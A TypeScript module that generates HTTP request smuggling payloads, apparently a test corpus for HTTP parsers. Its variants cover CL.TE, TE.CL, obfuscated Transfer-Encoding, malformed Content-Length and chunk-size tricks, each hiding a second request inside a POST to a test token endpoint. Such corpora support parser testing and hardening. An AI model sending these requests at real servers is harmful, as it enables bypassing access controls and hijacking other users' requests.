/** Requests of which two readers may see two ends (RFC 9112 §6.3, §11.2). */
export interface SmugglingVariant {
  readonly name: string;
  /** @param hidden a request that a reader finds when it ends the outer one too early */
  readonly bytes: (hidden: string) => string;
}

const CRLF = '\r\n';
const FORM = 'Content-Type: application/x-www-form-urlencoded';

function message(headers: readonly string[], body: string, line = 'POST /oauth2/token HTTP/1.1') {
  return [line, 'Host: pay.test', FORM, ...headers, '', body].join(CRLF);
}

const hex = (text: string) => text.length.toString(16);
const chunked = (body: string) => `${hex(body)}${CRLF}${body}${CRLF}0${CRLF}${CRLF}`;

/** Transfer codings that one reader follows and another passes over. */
const CODINGS: Readonly<Record<string, string>> = {
  plain: 'Transfer-Encoding: chunked',
  'upper case': 'TRANSFER-ENCODING: CHUNKED',
  'mixed case': 'Transfer-Encoding: ChUnKeD',
  'no space': 'Transfer-Encoding:chunked',
  'a tab before': 'Transfer-Encoding:\tchunked',
  'a tab after': 'Transfer-Encoding: chunked\t',
  'spaces around': 'Transfer-Encoding:   chunked   ',
  'a letter before': 'Transfer-Encoding: xchunked',
  'a letter after': 'Transfer-Encoding: chunkedx',
  'in quotes': 'Transfer-Encoding: "chunked"',
  'a parameter': 'Transfer-Encoding: chunked;q=1',
  identity: 'Transfer-Encoding: identity',
  'identity, chunked': 'Transfer-Encoding: identity, chunked',
  'chunked, identity': 'Transfer-Encoding: chunked, identity',
  'chunked twice': 'Transfer-Encoding: chunked, chunked',
  'gzip, chunked': 'Transfer-Encoding: gzip, chunked',
  'a comma before': 'Transfer-Encoding: ,chunked',
  'a comma after': 'Transfer-Encoding: chunked,',
  'a vertical tab': 'Transfer-Encoding: \x0bchunked',
  'a form feed': 'Transfer-Encoding: \x0cchunked',
  'a null byte': 'Transfer-Encoding: \x00chunked',
  'a null byte after': 'Transfer-Encoding: chunked\x00',
  'a no-break space': 'Transfer-Encoding: \xa0chunked',
  'a space before the colon': 'Transfer-Encoding : chunked',
  'a tab before the colon': 'Transfer-Encoding\t: chunked',
  'a null byte in the name': 'Transfer-Encoding\x00: chunked',
  'a space in the name': 'Transfer Encoding: chunked',
  'a folded value': 'Transfer-Encoding:\r\n chunked',
  'a value folded with a tab': 'Transfer-Encoding:\r\n\tchunked',
  'a folded name': 'X-A: b\r\n Transfer-Encoding: chunked',
  'a bare line feed before': 'X-A: b\nTransfer-Encoding: chunked',
  'a bare carriage return before': 'X-A: b\rTransfer-Encoding: chunked',
  'two headers, chunked last': 'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'two headers, chunked first': 'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'named by Connection': 'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
};

/** Lengths that one reader takes as the body's, and another as none or another one. */
const LENGTHS: Readonly<Record<string, (length: number) => string>> = {
  'two, the second is 0': (n) => `Content-Length: ${n}\r\nContent-Length: 0`,
  'two, the first is 0': (n) => `Content-Length: 0\r\nContent-Length: ${n}`,
  'two alike': (n) => `Content-Length: ${n}\r\nContent-Length: ${n}`,
  'a list alike': (n) => `Content-Length: ${n}, ${n}`,
  'a list that differs': (n) => `Content-Length: ${n}, 0`,
  'a plus sign': (n) => `Content-Length: +${n}`,
  'a minus sign': (n) => `Content-Length: -${n}`,
  'base 16': (n) => `Content-Length: 0x${n.toString(16)}`,
  'a zero in front': (n) => `Content-Length: 0${n}`,
  'a decimal point': (n) => `Content-Length: ${n}.0`,
  'an exponent': (n) => `Content-Length: ${n}e0`,
  'an underscore': (n) => `Content-Length: ${n}_0`,
  'a tab before': (n) => `Content-Length:\t${n}`,
  'a tab after': (n) => `Content-Length: ${n}\t`,
  'a vertical tab': (n) => `Content-Length: ${n}\x0b`,
  'a space inside': (n) => `Content-Length: ${n} 0`,
  'beyond 64 bits': (n) => `Content-Length: ${2n ** 64n + BigInt(n)}`,
  'no digits': (n) => `Content-Length: \r\nX-A: ${n}`,
  'a space before the colon': (n) => `Content-Length : ${n}`,
  'a folded value': (n) => `Content-Length:\r\n ${n}`,
  'a bare line feed': (n) => `X-A: b\nContent-Length: ${n}`,
  'an underscore in a second name': (n) => `Content-Length: ${n}\r\nContent_Length: 0`,
  'named by Connection': (n) => `Connection: Content-Length\r\nContent-Length: ${n}`,
};

/** Chunks whose size or end two readers may see in two ways. */
const CHUNKS: Readonly<Record<string, (hidden: string) => string>> = {
  'an extension': (h) => chunked(h).replace(CRLF, `;a=b${CRLF}`),
  'an extension in quotes': (h) => chunked(h).replace(CRLF, `;a="b;c"${CRLF}`),
  'an extension with a bare line feed': (h) => chunked(h).replace(CRLF, `;\n0${CRLF}${CRLF}`),
  'an extension with a carriage return': (h) => chunked(h).replace(CRLF, `;a\rb${CRLF}`),
  'an extension of 20,000 bytes': (h) => chunked(h).replace(CRLF, `;${'a'.repeat(20_000)}${CRLF}`),
  'a plus sign': (h) => `+${chunked(h)}`,
  'a minus sign': (h) => `-${chunked(h)}`,
  'base 16 by name': (h) => `0x${chunked(h)}`,
  'zeros in front': (h) => `000${chunked(h)}`,
  'a space before': (h) => ` ${chunked(h)}`,
  'a space after': (h) => chunked(h).replace(CRLF, ` ${CRLF}`),
  'a tab after': (h) => chunked(h).replace(CRLF, `\t${CRLF}`),
  'an underscore': (h) => chunked(h).replace(CRLF, `_0${CRLF}`),
  'no digits': (h) => chunked(h).replace(/^\w+/, ''),
  'beyond 64 bits': (h) => `1${hex(h).padStart(16, '0')}${chunked(h).slice(hex(h).length)}`,
  'all bits of 64': (h) => `ffffffffffffffff${chunked(h).slice(hex(h).length)}`,
  'a bare line feed after the size': (h) => chunked(h).replace(CRLF, '\n'),
  'a bare carriage return after the size': (h) => chunked(h).replace(CRLF, '\r'),
  'a bare line feed after the data': (h) => `${hex(h)}${CRLF}${h}\n0${CRLF}${CRLF}`,
  'no line end after the data': (h) => `${hex(h)}${CRLF}${h}0${CRLF}${CRLF}`,
  'data beyond the size': (h) => `1${CRLF}a${chunked(h)}`,
  'bare line feeds in the last chunk': (h) => `1${CRLF}a${CRLF}0\n\n${h}`,
  'a trailer that names a length': (h) => chunked(h).replace(/\r\n$/, 'Content-Length: 9\r\n\r\n'),
  'a trailer with a space': (h) => chunked(h).replace(/\r\n$/, 'X A: b\r\n\r\n'),
};

/** Bodies where a reader may expect none. */
const LINES = [
  'GET /problems HTTP/1.1',
  'PUT /problems HTTP/1.1',
  'OPTIONS /problems HTTP/1.1',
  'DELETE /problems HTTP/1.1',
  'POST /oauth2/token HTTP/1.0',
  'POST http://other.test/oauth2/token HTTP/1.1',
  'POST /oauth2/token  HTTP/1.1',
  'POST /oauth2/token\tHTTP/1.1',
];

export const SMUGGLING_VARIANTS: readonly SmugglingVariant[] = [
  ...Object.entries(CODINGS).flatMap(([name, coding]) => [
    {
      name: `CL.TE, ${name}`,
      bytes: (hidden: string) => {
        const body = `0${CRLF}${CRLF}${hidden}`;
        return message([`Content-Length: ${body.length}`, coding], body);
      },
    },
    {
      name: `TE.CL, ${name}`,
      bytes: (hidden: string) =>
        message([`Content-Length: ${hex(hidden).length + 2}`, coding], chunked(hidden)),
    },
  ]),
  ...Object.entries(LENGTHS).map(([name, write]) => ({
    name: `a length: ${name}`,
    bytes: (hidden: string) => message([write(hidden.length)], hidden),
  })),
  ...Object.entries(CHUNKS).map(([name, write]) => ({
    name: `a chunk: ${name}`,
    bytes: (hidden: string) => message(['Transfer-Encoding: chunked'], write(hidden)),
  })),
  ...LINES.flatMap((line) => [
    {
      name: `a length at ${JSON.stringify(line)}`,
      bytes: (hidden: string) => message([`Content-Length: ${hidden.length}`], hidden, line),
    },
    {
      name: `chunks at ${JSON.stringify(line)}`,
      bytes: (hidden: string) => message(['Transfer-Encoding: chunked'], chunked(hidden), line),
    },
  ]),
  ...['Expect: 100-continue', 'Upgrade: h2c', 'X-HTTP-Method-Override: GET'].map((header) => ({
    name: `a length beside ${header}`,
    bytes: (hidden: string) => message([header, `Content-Length: ${hidden.length}`], hidden),
  })),
];
